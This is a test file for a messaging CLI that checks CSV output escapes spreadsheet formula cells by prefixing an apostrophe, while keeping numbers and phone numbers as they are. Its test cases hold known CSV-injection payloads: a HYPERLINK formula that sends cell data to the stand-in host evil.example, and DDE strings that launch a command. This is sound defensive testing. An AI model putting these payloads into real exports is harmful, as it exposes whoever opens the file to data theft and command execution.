// CSV that a spreadsheet opens: cells that it would run as a formula (OWASP "CSV Injection": a leading =, +, -, @,
// tab or carriage return) get a leading apostrophe; numbers and phone numbers stay as they are; --csv-raw gives the
// data untouched. The same guard covers -o csv and the --rejects file of contacts.
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvField } from '../../src/io/format.js';
import { csvFormulaSafe } from '../../src/io/safe.js';
import { tempDir } from '../helpers/cli.js';
import { json, page, useHostileServer } from './server.js';

const KEY = 'vk_live_9f2c4e6a8b1d3f5a7c9e';
const { server, run } = useHostileServer(KEY);

const CASES: [string, string][] = [
  ['=HYPERLINK("https://evil.example/?"&A1,"click")', `'=HYPERLINK("https://evil.example/?"&A1,"click")`],
  ["@SUM(1+1)*cmd|' /C calc'!A0", `'@SUM(1+1)*cmd|' /C calc'!A0`],
  ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
  ["-2+3+cmd|' /C calc'!A0", `'-2+3+cmd|' /C calc'!A0`],
  ['\t=1+1', `'\t=1+1`],
  ['\r=1+1', `'\r=1+1`],
  // Numbers and phone numbers: readable, nothing in them can run.
  ['+393331234567', '+393331234567'],
  ['-1.5', '-1.5'],
  ['+1 (555) 010-0000', '+1 (555) 010-0000'],
  // Not at the start: plain text.
  ['a=1', 'a=1'],
  ['', ''],
];

describe('-o csv', () => {
  it('neutralises formula cells and keeps numbers; --csv-raw gives the data', async () => {
    const records = CASES.map(([body], i) => ({
      id: `msg_${i}`,
      channel: 'sms',
      fromAddress: '+393331234567',
      body,
      createdAt: '2026-11-23T10:00:00.000Z',
    }));
    server.on('GET', '/v1/messages', (_q, res) => json(res, 200, page(records, { page: 1, totalPages: 1 })));
    const r = await run(['messages', 'list', '-o', 'csv']);
    expect(r.code, r.stderr).toBe(0);
    const rows = parse(r.stdout, { columns: true }) as Record<string, string>[];
    expect(rows.map((x) => x.body)).toEqual(CASES.map(([, safe]) => safe));
    expect(rows.every((x) => x.fromAddress === '+393331234567')).toBe(true);
    const raw = await run(['messages', 'list', '-o', 'csv', '--csv-raw']);
    expect((parse(raw.stdout, { columns: true }) as Record<string, string>[]).map((x) => x.body)).toEqual(
      CASES.map(([body]) => body),
    );
  });

  it('a record as CSV (campaigns show -o csv) is neutralised too', async () => {
    server.on('GET', '/v1/campaigns/cmp_1', (_q, res) =>
      json(res, 200, { data: { id: 'cmp_1', name: '=1+1', fromNumber: '+390212345678' } }),
    );
    const r = await run(['campaigns', 'show', 'cmp_1', '-o', 'csv']);
    const [row] = parse(r.stdout, { columns: true }) as Record<string, string>[];
    expect(row.name).toBe("'=1+1");
    expect(row.fromNumber).toBe('+390212345678');
  });
});

describe('--rejects file', () => {
  it('rejected rows are written with their formula cells neutralised, phone numbers kept', async () => {
    const dir = tempDir();
    const input = join(dir, 'leads.csv');
    writeFileSync(input, 'phone_number,first_name\n+393331234567,Anna\nnot-a-number,=HYPERLINK("x")\n');
    const rejects = join(dir, 'rejects.csv');
    const r = await run([
      'contacts',
      'convert',
      input,
      '--skip-invalid',
      '--max-skipped',
      '100%',
      '--rejects',
      rejects,
    ]);
    expect(r.code, r.stderr).toBe(0);
    const rows = parse(readFileSync(rejects), { columns: true, bom: true }) as Record<string, string>[];
    expect(rows).toHaveLength(1);
    expect(rows[0].first_name).toBe(`'=HYPERLINK("x")`);
    expect(rows[0].phone_number).toBe('not-a-number');
  });
});

describe('property: no cell a spreadsheet would run', () => {
  const live = /^[=+\-@\t\r]/;
  const numberLike = /^[+-]?\d[\d ().-]*$/;
  const cellChars = fc.oneof(
    fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'", ' ', '1', 'a', '(', '|', '!'),
    fc.string({ maxLength: 3 }),
  );
  const cells = fc.array(cellChars, { maxLength: 12 }).map((a) => a.join(''));

  it('csvFormulaSafe: the result never starts with a live character unless it is a plain number', () => {
    fc.assert(
      fc.property(cells, (s) => {
        const out = csvFormulaSafe(s);
        expect(!live.test(out) || numberLike.test(out)).toBe(true);
        // Only ever a prefix: the data is all there.
        expect(out === s || out === `'${s}`).toBe(true);
      }),
      { numRuns: 2000 },
    );
  });

  it('csvField, read back by a CSV parser, gives a cell that never starts with a live character', () => {
    fc.assert(
      fc.property(fc.array(cells, { minLength: 1, maxLength: 5 }), (row) => {
        const line = `${row.map((c) => csvField(c)).join(',')}\n`;
        const [parsed] = parse(line, { relax_column_count: true }) as string[][];
        for (const c of parsed) expect(!live.test(c) || numberLike.test(c)).toBe(true);
      }),
      { numRuns: 1000 },
    );
  });
});
